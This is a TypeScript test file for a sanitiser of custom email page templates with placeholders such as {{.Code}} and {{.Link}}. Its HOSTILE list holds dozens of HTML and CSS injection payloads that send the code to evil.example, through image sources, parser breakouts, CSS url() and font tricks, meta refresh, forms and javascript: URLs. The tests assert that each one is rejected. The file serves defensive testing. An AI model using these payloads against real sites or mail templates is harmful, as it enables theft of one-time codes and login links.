import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { parse, type DefaultTreeAdapterTypes as Tree } from 'parse5'
import { fillPlaces } from '../../../kernel/placeholders.ts'
import { isElementAllowed } from './allowed.ts'
import { textProblem } from './text-places.ts'
import { writePage } from './write-page.ts'

const GOOD = [
  '<p>Code: <b>{{.Code}}</b>. Valid for an hour.</p>',
  '<a href="{{.Link}}">{{.ButtonText}}</a>',
  "<a class=button href='{{ .Link }}' style='color:red'>{{.Text}}</a>",
  '<a href={{.Link}}>{{.Link}}</a>',
  '<!doctype html><head><title>{{.Subject}}</title><style>p { color: red }</style></head><p>&nbsp;{{.Code}}&nbsp;</p>',
  '<!-- a comment --><p title="{{.UserName}}">1 < 2 {{.Code}}</p>',
  '<img src="https://cdn.example/logo.png" alt="Logo"><p>({{.Code}})</p>',
  '<!doctype html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd"><html xmlns="http://www.w3.org/1999/xhtml"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width"></head><body bgcolor="#fff"><table role="presentation" width="100%" cellpadding="0"><tr><td align="center" style="padding:8px" background="https://cdn.example/back.png"><pre>\n\n{{.Code}}</pre><a href="https://example.com/help?a=1&amp;b=2" target="_blank" rel="noopener">Help</a> <a href="mailto:help@example.com">Mail</a></td></tr></table></body></html>',
  '<p>one<table><tr><td>{{.Code}}</table>',
]

/** Pages that lead the code or the link elsewhere in a program that reads them as browsers do, or as some programs do. */
const HOSTILE = [
  // An address with a place.
  '<img src="https://evil.example/?c={{.Code}}">',
  "<img src='https://evil.example/?c={{ .Code }}'>",
  '<img src=https://evil.example/?c={{.Code}}>',
  '<img src="https://evil.example/?c={{.Link}}">',
  '<img src="https://evil.example/?c=<p>{{.Code}}</p>',
  '<img/src="https://evil.example/?c={{.Code}}"/>',
  '<img ="x" src="https://evil.example/?c={{.Code}}">',
  '<img alt=""src="https://evil.example/?c={{.Code}}">',
  '<img srcset="https://evil.example/{{.Code}} 1x">',
  '<img src="https://evil.example/?c={&#123;.Code}&#125;">',
  '<table><td background="https://evil.example/{{.Code}}">x</td></table>',
  '<table background="https://evil.example/{{.Code}}"><tr><td>x</table>',
  '<a href="https://evil.example/?u={{.Link}}">here</a>',
  '<a href="{{.Link}}&to=evil">here</a>',
  '<a href="{{.Link}}" ping="https://evil.example/{{.Code}}">here</a>',
  '<p style="background:url(https://evil.example/{{.Code}})">x</p>',
  '<img src="https://evil.example/?c={{.Text}}"><p>{{.Code}}</p>',
  // Where a tag, a text or a comment ends.
  `<title><a b="</title><img src='http://x/?c="> {{.Code}} '>`,
  `<title><!-- </title><img src="https://evil.example/?c=--></title>{{.Code}}">`,
  `<style><a b="</style><img src='http://x/?c="> {{.Code}} '>`,
  `<img\u00a0alt="<img src='https://evil.example/?c=">{{.Code}}'>`,
  `<img\u00a0src="x">{{.Code}}<a\u00a0b="><img src='http://x/?c=">{{.Code}}'>`,
  `<img\u000bx="><img src='https://evil.example/?c=">{{.Code}}'>`,
  `<p\u000bx="><img src=https://evil.example/?c={{.Code}}>"`,
  `<p\u2028x="><img src=https://evil.example/?c={{.Code}}>"`,
  `<p\ufeffx="><img src=https://evil.example/?c={{.Code}}>"`,
  `<p x="a"="><img src='https://evil.example/?c=">{{.Code}}'>`,
  `<p x=a"><img src='https://evil.example/?c=">{{.Code}}'>`,
  '<!--><img src="https://evil.example/?c=-->{{.Code}}">',
  '<!---><img src="https://evil.example/?c=-->{{.Code}}">',
  '<!--x--!><img src="https://evil.example/?c=-->{{.Code}}">',
  '<!--[if mso]><img src="https://evil.example/?c={{.Code}}"><![endif]-->',
  '<? <img src="https://evil.example/?c={{.Code}}">',
  '<![CDATA[><img src="https://evil.example/?c={{.Code}}">]]>',
  '</ x="><img src=https://evil.example/?c={{.Code}}>"',
  // Elements whose content is read in different ways, or that send it away.
  '<svg><a>{{.Code}}</a></svg>',
  '<svg><style><img src="https://evil.example/?c={{.Code}}"></style></svg>',
  '<math><mi xlink:href="https://evil.example/{{.Code}}">x</mi></math>',
  '<noscript><p title="</noscript><img src=https://evil.example/?c={{.Code}}>">x</p></noscript>',
  '<template><img src="https://evil.example/?c={{.Code}}"></template>',
  '<xmp><p title="</xmp><img src=https://evil.example/?c={{.Code}}>"></p></xmp>',
  '<textarea><p title="</textarea><img src=https://evil.example/?c={{.Code}}>"></p></textarea>',
  '<plaintext>{{.Code}}',
  '<iframe src="https://evil.example/">{{.Code}}</iframe>',
  '<object data="https://evil.example/{{.Code}}"></object>',
  '<form action="https://evil.example"><textarea name="c">{{.Code}}</textarea></form>',
  '<form action="https://evil.example"><button name="c" value="{{.Code}}">x</button></form>',
  '<select><option>{{.Code}}</select>',
  '<base href="https://evil.example/"><p>{{.Code}}</p>',
  '<link rel="prefetch" href="{{.Link}}">',
  '<link rel="stylesheet" href="https://evil.example/a.css"><p>{{.Code}}</p>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/{{.Code}}">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>{{.Code}}</p>',
  '<script>new Image().src = "https://evil.example/" + document.body.innerText</script><p>{{.Code}}</p>',
  '<p onmouseover="fetch(this.innerText)">{{.Code}}</p>',
  // Addresses that run something, and styles that tell what is in the page.
  '<a href="javascript:alert(1)">x</a><p>{{.Code}}</p>',
  '<a href="java&#10;script:alert(1)">x</a><p>{{.Code}}</p>',
  '<a href=" &#1;javascript:alert(1)">x</a><p>{{.Code}}</p>',
  '<a href="data:text/html,x">x</a><p>{{.Code}}</p>',
  '<img src="data:image/svg+xml,x"><p>{{.Code}}</p>',
  '<style>p { background: url(https://evil.example/{{.Code}}) }</style>',
  '<style>a[href*="code=A"] { background: url(https://evil.example/A) }</style><a href="{{.Link}}">x</a>',
  '<style>a[href*="A"] + p { display: block }</style><a href="{{.Link}}">x</a><p style="background:url(https://evil.example/A)">x</p>',
  '<style>@font-face { font-family: x; src: url(https://evil.example/A); unicode-range: U+41 }</style><p>{{.Code}}</p>',
  '<style>@import "https://evil.example/a.css";</style><p>{{.Code}}</p>',
  '<style>p { background: u\\72l(https://evil.example/) }</style><p>{{.Code}}</p>',
  // Mail programs make links of these, and scanners follow them.
  '<p>https://evil.example/?c={{.Code}}</p>',
  '<p>https:&#47;&#47;evil.example&#47;{{.Code}}</p>',
  '<p>https://evil.example/?c=<b>{{.Code}}</b></p>',
  '<p>https://evil.example/?c=<!-- -->{{.Code}}</p>',
  '<p>https://evil.example/?c={<!-- -->{.Code}}</p>',
  '<p>https://evil.example/?c=<span></span>{{.Code}}</p>',
  '<p>{{.Code}}.evil.example</p>',
  '<p>https://evil.example/?c={{.Text}}</p>',
]

const CARRIER = /\{\{\s*\.(?:Code|Link|Subject|Title|Greeting|Text|ButtonText|Footer)\s*\}\}/

/** What is wrong with a page as browsers read it. */
function wrongIn(node: Tree.Document | Tree.Element): readonly string[] {
  return node.childNodes.flatMap((child): readonly string[] => {
    if ('data' in child) return ['a comment']
    if (!('tagName' in child)) return []
    if (!isElementAllowed(child.tagName)) return [`<${child.tagName}>`]
    const attributes = child.attrs.flatMap(({ name, value }) => {
      if (/^on|ping|srcset/.test(name)) return [name]
      if (child.tagName === 'a' && name === 'href' && value === '{{.Link}}') return []
      if (/^(?:href|src|background)$/.test(name) && !/^(?:https?:|mailto:|tel:|#)/.test(value))
        return [`${name}=${value}`]
      return CARRIER.test(value) ? [`a place in ${name}`] : []
    })
    const isStyle = child.tagName === 'style' && JSON.stringify(child.childNodes, ['nodeName', 'value']).includes('{{')
    return [...attributes, ...(isStyle ? ['a place in <style>'] : []), ...wrongIn(child)]
  })
}

suite('a custom page', () => {
  test('can have places as text, and the link as a whole href', async () => {
    for (const page of GOOD) {
      const { html, problem } = await writePage(page)
      assert.equal(problem, undefined, page)
      assert.deepEqual(wrongIn(parse(html)), [], page)
      assert.match(html, CARRIER, page)
      assert.deepEqual(await writePage(html), { html, problem: undefined })
    }
  })

  test('that leads the code elsewhere is not set', async () => {
    for (const page of HOSTILE) assert.equal(typeof (await writePage(page)).problem, 'string', page)
  })

  test('is sent as something that browsers read in the same way, whatever was set before', async () => {
    for (const page of [...HOSTILE, ...HOSTILE.map((one) => `${one}<p>{{.Link}}</p>`)]) {
      const { html } = await writePage(page)
      assert.deepEqual(wrongIn(parse(html)), [], page)
      const sent = fillPlaces(html, { Code: 'ABC&quot;&lt;img&gt;', Link: 'https://id.example/?c=1' })
      assert.deepEqual(wrongIn(parse(sent)), [], page)
    }
  })

  test('keeps its text and its tables', async () => {
    const { html } = await writePage('<p>a &lt;b&gt; &amp; "c"&nbsp;</p><table><tr><td width=1>{{.Code}}<br></table>')
    assert.equal(
      html,
      '<html><head></head><body><p>a &lt;b&gt; &amp; &quot;c&quot;&nbsp;</p><table><tbody><tr><td width="1">{{.Code}}<br></td></tr></tbody></table></body></html>',
    )
  })

  test('has a bounded number of elements, also of those that reading adds', async () => {
    const fonts = Array.from({ length: 2000 }, (_, index) => `<font size=${index}>`).join('')
    const pages = [fonts + '<p>x'.repeat(2000), '<div>'.repeat(5000), '<br>'.repeat(30_000)]
    for (const page of pages) assert.match((await writePage(page)).problem ?? '', /fewer elements/)
  })
})

test('in plain text the code and the link are not part of an address', () => {
  for (const text of ['Your code is {{.Code}}.', 'Code:{{.Code}}', '{{.Link}}', 'Open {{.Link}}, then {{.Code}}!']) {
    assert.equal(textProblem(text), undefined, text)
  }
  for (const text of ['https://evil.example/{{.Code}}', '{{.Code}}.evil.example', 'www.evil.example?{{ .Code }}']) {
    assert.equal(typeof textProblem(text), 'string', text)
  }
})
